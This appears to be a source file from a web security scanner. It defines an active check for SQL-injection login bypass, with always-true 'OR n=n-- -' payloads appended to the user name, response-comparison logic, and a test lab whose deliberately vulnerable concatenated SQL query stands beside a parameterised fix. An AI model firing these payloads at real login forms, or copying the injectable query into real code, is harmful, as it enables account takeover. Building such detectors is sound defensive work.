import type { InventoryItem, Parameter } from '../../../crawl/inventory/inventory.ts';
import type { Exchange } from '../../../http/exchange/exchange.ts';
import { headerOf } from '../../../http/exchange/headers.ts';
import { areAlike } from '../../../oracle/two-sided.ts';
import { defineRequestCheck } from '../../define-active-check.ts';
import type { PlannedRequest } from '../../experiment.ts';
import { type PointRequest, requestWith } from '../../insertion-point.ts';
import { openTeaShop } from '../../labs/sql.ts';
import { asksForPassword } from '../../shared/login-attempts.ts';
import { SQL_CVSS, SQL_FIX, SQL_REFERENCES } from '../../shared/sql.ts';

const PASSWORD = /pass|pwd|kennwort|contrase|mot_?de_?passe|senha|secret/i;
/** Registration and account forms have a password field too. */
const OTHER_PURPOSE =
  /regist|sign[-_]?up|create|reset|forgot|change|confirm|invite|(?:users|accounts|customers|members)\/?$/i;
const NAME = /user|mail|login|name|account|^id$|identifier/i;
const TOKEN = /"(?:[a-z_]*token|jwt|session(?:_?id)?)"\s{0,5}:\s{0,5}"[^"]{8}/i;

const passwordsOf = ({ parameters }: InventoryItem) => parameters.filter(({ name }) => PASSWORD.test(name));

function nameOf(item: InventoryItem): Parameter | undefined {
  const others = item.parameters.filter(({ location, name }) => location !== 'query' && !PASSWORD.test(name));
  return others.find(({ name }) => NAME.test(name)) ?? others[0];
}

/** Returns the request with this user name and a random password. */
function logInWith(item: InventoryItem, name: string, password: string): PointRequest {
  const [secret, user] = [passwordsOf(item)[0], nameOf(item)];
  if (!secret || !user) throw new Error('is no login');
  const replaced = (parameter: Parameter) => (parameter === secret ? { ...parameter, value: password } : parameter);
  const { body } = requestWith({ item, parameter: secret }, password);
  const changed: InventoryItem = { ...item, parameters: item.parameters.map(replaced) };
  if (item.body) changed.body = { ...item.body, text: String(body) };
  return requestWith({ item: changed, parameter: user }, name);
}

/** Returns whether the first response logs in and the second does not. */
function opens(answer: Exchange, denied: Exchange): boolean {
  if (!answer.response || answer.response.status >= 400) return false;
  const cookiesOf = ({ response }: Exchange) =>
    (response?.headers ?? [])
      .filter(([name]) => name.toLowerCase() === 'set-cookie')
      .map(([, value]) => value.split('=')[0]);
  const goesTo = ({ response }: Exchange) =>
    (headerOf(response?.headers ?? [], 'location') ?? '').replace(/[?#].*$/s, '');
  const hasToken = ({ response }: Exchange) => TOKEN.test(response?.body.toString() ?? '');
  return (
    cookiesOf(answer).some((name) => !cookiesOf(denied).includes(name)) ||
    (hasToken(answer) && !hasToken(denied)) ||
    (goesTo(answer) !== '' && goesTo(answer) !== goesTo(denied)) ||
    (asksForPassword(denied) && !asksForPassword(answer))
  );
}

export default defineRequestCheck({
  id: 'sql-injection-login',
  title: 'SQL injection: login bypass without a password',
  cwe: 89,
  cvss: SQL_CVSS,
  why: 'The user name becomes part of the SQL statement that looks up the account. An attacker adds a condition that is always true and is logged in as another user, often the administrator. True conditions logged in; a false condition, and a true one as part of the quoted name, did not.',
  fix: `${SQL_FIX} Look up the account by its name only, and verify the password hash in the application.`,
  references: SQL_REFERENCES,
  risk: 'intrusive',
  isForLogins: true,
  depth: 'STANDARD',
  appliesTo: (item) =>
    item.method === 'POST' &&
    passwordsOf(item).length === 1 &&
    nameOf(item) !== undefined &&
    !OTHER_PURPOSE.test(new URL(item.url).pathname),
  // Ends the user name before the condition.
  variants: ["'", '"', "')"],
  // Every request is a failed login, so the limit has to avoid lockouts.
  maxRequests: 20,
  proof: {
    plan(item, before, { word, numbers: [a, b, c] }) {
      const as = (label: string, name: string, how: Pick<PlannedRequest, 'isControl'> = {}): PlannedRequest => ({
        label,
        request: logInWith(item, name, word),
        session: { isNew: true },
        ...how,
      });
      const when = (condition: string) => `${word}${before} OR ${condition}-- -`;
      // A doubled quote does not end the string. A filter for conditions that are always true blocks this one as well.
      const quoted = `${word}${before.charAt(0)}${when(`${b}=${b}`).slice(word.length)}`;
      return {
        unknown: as('random user name and password', word, { isControl: true }),
        true1: as('true condition', when(`${a}=${a}`)),
        isFalse: as('false condition', when(`${a}=${c}`), { isControl: true }),
        true2: as('another true condition', when(`${b}=${b}`)),
        quoted: as('the true condition as part of the quoted name', quoted, { isControl: true }),
      };
    },
    judge({ unknown, true1, isFalse, true2, quoted }) {
      const isDenied = [isFalse, quoted].every((answer) => areAlike(unknown, answer) && !opens(answer, unknown));
      return isDenied && opens(true1, unknown) && opens(true2, unknown) ? 'PROVED' : 'REFUTED';
    },
  },
  lab() {
    const ask = openTeaShop((rows) =>
      rows.length > 0
        ? { status: 302, headers: { location: '/account', 'set-cookie': 'sid=7c1f; HttpOnly' } }
        : { status: 401, body: 'Wrong name or password' },
    );
    const fields = (body: string) => Object.fromEntries(new URLSearchParams(body)) as Record<string, string>;
    return {
      item: {
        method: 'POST',
        url: '/login',
        parameters: [
          { location: 'form', name: 'user', value: 'x' },
          { location: 'form', name: 'password', value: 'x' },
        ],
        seenAs: null,
        contentType: 'text/html',
      },
      vulnerable({ body }) {
        const { user = '', password = '' } = fields(body);
        return ask(`select name from person where name = '${user}' and password = '${password}'`);
      },
      safe({ body }) {
        const { user = '', password = '' } = fields(body);
        return ask('select name from person where name = ? and password = ?', user, password);
      },
    };
  },
});
